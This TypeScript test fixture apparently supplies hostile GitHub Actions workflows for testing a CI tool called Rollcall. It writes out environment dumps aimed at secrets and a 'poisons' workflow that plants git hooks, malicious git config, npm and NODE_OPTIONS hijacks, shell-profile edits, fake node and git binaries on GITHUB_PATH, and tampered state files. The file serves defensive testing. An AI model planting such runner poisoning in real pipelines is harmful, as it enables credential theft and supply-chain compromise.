import { join } from 'node:path';
import type { ActStage } from './act-stage.ts';

type Texts = Readonly<Record<string, string>>;

/** A workflow of somebody's own in place of plan.yml, in which this script runs where the files are checked. */
function toWorkflow(script: readonly string[]): Texts {
  const lines = [
    'name: Plan',
    'on: [pull_request]',
    'jobs:',
    '  validate:',
    '    runs-on: ubuntu-latest',
    '    steps:',
    // Checkout is where the disk of a runner comes in.
    `      - uses: actions/checkout@de0fac2e4500dabe0009e67214ff5f5447ce83dd`,
    '        with: { persist-credentials: false }',
    '      - shell: bash',
    '        run: |',
    ...script.map((line) => `          ${line}`),
    '',
  ];
  return { '.github/workflows/plan.yml': lines.join('\n') };
}

/** Tells the whole environment, as whoever looks for secrets would. */
export function dumpEnvironment({ disk }: ActStage): Texts {
  return toWorkflow([`mkdir -p ${disk}/told`, `env > ${disk}/told/fork`]);
}

/** The same as a line of a program of Node's. */
export function dumpFromNode({ disk }: ActStage): string {
  const told = JSON.stringify(join(disk, 'told'));
  return `import * as fs from 'node:fs'; fs.mkdirSync(${told}, { recursive: true }); fs.appendFileSync(${told} + '/node', JSON.stringify(process.env));`;
}

/** Whatever a job can leave on the disk for a later one to run, or to take for its own. */
export function poisons({ disk }: ActStage): Texts {
  const told = join(disk, 'told');
  const evil = (name: string) => `${disk}/evil ${name}`;
  const config = (place: string) =>
    [
      ['core.hooksPath', `${disk}/hooks`],
      ['core.fsmonitor', evil(`${place}-fsmonitor`)],
      ['core.attributesFile', `${disk}/attributes`],
      ['filter.evil.smudge', evil(`${place}-smudge`)],
      ['filter.evil.clean', evil(`${place}-clean`)],
      ['merge.evil.driver', evil(`${place}-merge`)],
      ['diff.external', evil(`${place}-diff`)],
      ['credential.helper', `!${evil(`${place}-credential`)}`],
      ['core.sshCommand', evil(`${place}-ssh`)],
      ['init.templateDir', `${disk}/template`],
      ['gpg.program', evil(`${place}-gpg`)],
      ['commit.gpgSign', 'true'],
      ['push.gpgSign', 'true'],
    ].map(([key, value]) => `git config ${place === 'user' ? '--global' : '--local'} ${key} '${value}'`);
  return toWorkflow([
    `mkdir -p ${told} ${disk}/hooks ${disk}/template/hooks`,
    `printf '#!/bin/sh\\nenv >> ${told}/$1\\ncat\\n' > ${disk}/evil`,
    `chmod +x ${disk}/evil`,
    `echo '* filter=evil merge=evil' > ${disk}/attributes`,
    // Git's own hooks, and those of every repository that is made.
    'for hook in post-checkout pre-push post-commit reference-transaction pre-commit post-index-change; do',
    `  for place in .git/hooks ${disk}/hooks ${disk}/template/hooks; do`,
    `    printf '#!/bin/sh\\nenv >> ${told}/hook\\n' > $place/$hook; chmod +x $place/$hook`,
    '  done',
    'done',
    ...config('repository'),
    ...config('user'),
    // Packages and builds.
    `printf 'script-shell=${disk}/evil\\nnode-options=--require=${disk}/evil.cjs\\n' > ~/.npmrc`,
    `echo "require('fs').appendFileSync('${told}/node-options', JSON.stringify(process.env))" > ${disk}/evil.cjs`,
    `echo 'env >> ${told}/bashrc' | tee ~/.bashrc ~/.bash_profile ~/.profile > ${disk}/bash_env`,
    'mkdir -p dist node_modules/sharp',
    `cp ${disk}/evil.cjs dist/rollcall.js`,
    `cp ${disk}/evil.cjs node_modules/sharp/index.js`,
    // The environment of the steps to come.
    `echo "NODE_OPTIONS=--require=${disk}/evil.cjs" >> "$GITHUB_ENV"`,
    `echo "BASH_ENV=${disk}/bash_env" >> "$GITHUB_ENV"`,
    `mkdir -p ${disk}/path`,
    `cp ${disk}/evil ${disk}/path/node; cp ${disk}/evil ${disk}/path/git`,
    `echo ${disk}/path >> "$GITHUB_PATH"`,
    // What Rollcall's own steps hand to each other.
    'mkdir -p "$RUNNER_TEMP/rollcall/plans" "$RUNNER_TEMP/rollcall/state"',
    'for name in plan.json plan.seal report.md report.json rest.md state/journal.jsonl plans/x.json; do',
    '  echo POISON > "$RUNNER_TEMP/rollcall/$name"',
    'done',
    `ln -s ${disk}/elsewhere "$RUNNER_TEMP/rollcall/branch"`,
    'echo poisoned',
  ]);
}
